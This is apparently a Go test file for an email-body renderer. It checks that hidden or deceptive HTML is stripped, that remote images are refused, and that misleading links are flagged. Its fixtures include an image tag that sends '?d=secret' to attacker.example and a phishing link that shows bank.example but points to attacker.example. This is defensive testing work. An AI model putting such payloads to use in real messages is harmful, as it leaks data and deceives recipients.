package mailmsg

import (
	"errors"
	"strings"
	"testing"
)

// TestEmailHTMLPolicy: what the recipient's client would show differently
// from the text the approver reads is taken out (the text kept, visible, in
// reading order), and an image is refused, from HTML and from Markdown.
func TestEmailHTMLPolicy(t *testing.T) {
	t.Parallel()
	in := `<p dir="rtl">IBAN <bdo dir="rtl">DE89 3704 0044</bdo> <bdi>x</bdi></p>` +
		`<p>pay <del>100</del> <s>200</s> <strike>300</strike> 400</p>` +
		`<p style="display:none">hidden1</p><p hidden>hidden2</p><span style="font-size:0">hidden3</span>` +
		`<p class="hide" id="h">cls</p><details><summary>more</summary>folded</details>` +
		`<style>.hide{display:none}</style><form action="https://x.example"><input name="p"></form>`
	p := mustRender(t, FormatHTML, in)
	for _, bad := range []string{"dir=", "<bdo", "<bdi", "<del", "<s>", "<strike", "style", "hidden>", " hidden", "class=", "id=", "<details", "<form", "<input"} {
		if strings.Contains(p.HTML, bad) {
			t.Errorf("HTML holds %q: %s", bad, p.HTML)
		}
	}
	for _, keep := range []string{"DE89 3704 0044", "100", "200", "300", "hidden1", "hidden2", "hidden3", "folded"} {
		if !strings.Contains(p.HTML, keep) || !strings.Contains(p.Text, keep) {
			t.Errorf("%q not kept visible in both parts:\nHTML %s\ntext %s", keep, p.HTML, p.Text)
		}
	}

	for _, c := range []struct {
		format    BodyFormat
		body, src string
	}{
		{FormatHTML, `<p>Hi</p><img src="https://attacker.example/p.png?d=secret">`, `https://attacker.example/p.png?d=secret`},
		{FormatHTML, `<picture><source srcset="https://a.example/x.webp"></picture>`, ""},
		{FormatHTML, `<table background="https://a.example/bg.png"><tr><td>x</td></tr></table>`, "https://a.example/bg.png"},
		{FormatMarkdown, "Hi ![logo](https://attacker.example/p.png?d=secret)", `https://attacker.example/p.png?d=secret`},
	} {
		_, err := RenderBody(c.format, c.body)
		var rc *RemoteContentError
		if !errors.As(err, &rc) || !errors.Is(err, ErrRemoteContent) || !strings.Contains(err.Error(), c.src) ||
			!strings.HasPrefix(err.Error(), "Invalid body: the HTML has an <") {
			t.Errorf("RenderBody(%s, %q) = %v, want a refusal naming %q", c.format, c.body, err, c.src)
		}
	}
}

func TestHTMLLinks(t *testing.T) {
	t.Parallel()
	p := mustRender(t, FormatMarkdown, "See https://docs.example/a, [the report](https://docs.example/r), "+
		"[https://bank.example/login](https://attacker.example/login), [www.bank.example](https://bank.example/) "+
		"and [v1.2 notes](https://docs.example/v1.2) or mail bob@example.com.")
	got := HTMLLinks(p.HTML)
	want := []Link{
		{Target: "https://docs.example/a", Text: "https://docs.example/a"},
		{Target: "https://docs.example/r", Text: "the report"},
		{Target: "https://attacker.example/login", Text: "https://bank.example/login", Misleading: true},
		{Target: "https://bank.example/", Text: "www.bank.example", Misleading: true},
		{Target: "https://docs.example/v1.2", Text: "v1.2 notes"},
		{Target: "mailto:bob@example.com", Text: "bob@example.com"},
	}
	if len(got) != len(want) {
		t.Fatalf("links %+v, want %+v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("link %d = %+v, want %+v", i, got[i], want[i])
		}
	}
	if s := want[2].String(); s != `https://attacker.example/login (text "https://bank.example/login") MISLEADING: the text shows another address than the link goes to` {
		t.Errorf("String() = %s", s)
	}
}
